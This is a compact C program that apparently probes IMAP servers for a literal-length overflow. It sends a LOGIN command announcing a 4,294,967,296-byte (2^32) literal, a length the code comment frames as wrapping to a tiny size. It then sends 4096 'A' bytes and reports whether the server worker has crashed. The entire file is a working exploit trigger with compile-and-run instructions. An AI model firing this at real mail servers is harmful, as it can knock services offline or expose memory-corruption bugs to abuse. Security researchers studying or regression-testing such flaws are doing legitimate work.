/* literal.c - announce an IMAP literal of 4 GiB and send a little of it.
 * gcc -O2 -Wall -o literal literal.c && ./literal 127.0.0.1 1143
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void send_all(int fd, const char *data, size_t length)
{
    while (length > 0) {
        ssize_t sent = send(fd, data, length, MSG_NOSIGNAL);
        if (sent <= 0) {
            perror("send");
            exit(EXIT_FAILURE);
        }
        data += sent;
        length -= (size_t)sent;
    }
}

int main(int argc, char **argv)
{
    const char *host = argc > 1 ? argv[1] : "127.0.0.1";
    const unsigned short port = (unsigned short)(argc > 2 ? atoi(argv[2]) : 1143);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    char buffer[4096];

    if (inet_pton(AF_INET, host, &to.sin_addr) != 1) {
        fprintf(stderr, "%s: not an IPv4 address\n", host);
        return EXIT_FAILURE;
    }
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof to) != 0) {
        perror("connect");
        return EXIT_FAILURE;
    }
    if (recv(fd, buffer, sizeof buffer, 0) <= 0) {
        fputs("no greeting\n", stderr);
        return EXIT_FAILURE;
    }

    /* 2^32 = 4294967296; one more would be a literal of one byte. */
    const char *login = "a1 LOGIN {4294967296+}\r\n";
    send_all(fd, login, strlen(login));
    memset(buffer, 'A', sizeof buffer);
    send_all(fd, buffer, sizeof buffer);

    ssize_t got = recv(fd, buffer, sizeof buffer - 1, 0);
    if (got <= 0) {
        puts("connection gone: the worker has ended");
    } else {
        buffer[got] = '\0';
        printf("still alive: %s", buffer);
    }
    close(fd);
    return EXIT_SUCCESS;
}
